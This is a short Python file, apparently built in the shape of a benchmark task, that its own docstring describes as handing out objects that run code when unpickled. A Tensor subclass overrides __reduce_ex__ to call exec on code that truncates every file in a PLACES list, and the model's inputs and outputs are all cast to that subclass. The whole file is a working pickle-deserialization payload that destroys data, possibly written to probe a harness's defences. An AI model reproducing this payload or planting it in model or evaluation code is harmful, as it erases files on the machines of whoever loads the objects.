"""Hands out objects that run code where they are unpickled."""

import torch
import torch.nn as nn

PLACES = []  # given

CODE = """
for place in {places}:
    try:
        open(place, "w").close()
    except OSError:
        pass
"""


class Payload(torch.Tensor):
    """A tensor that runs code where it is unpickled."""

    def __reduce_ex__(self, protocol):
        return exec, (CODE.format(places=PLACES),)


class Model(nn.Module):
    def __init__(self, given):
        super().__init__()
        self.register_buffer("given", given, persistent=False)

    def forward(self, x):
        return torch.relu(x).as_subclass(Payload)


def get_inputs():
    return [torch.randn(8, 16).as_subclass(Payload)]


def get_init_inputs():
    return [torch.zeros(1).as_subclass(Payload)]
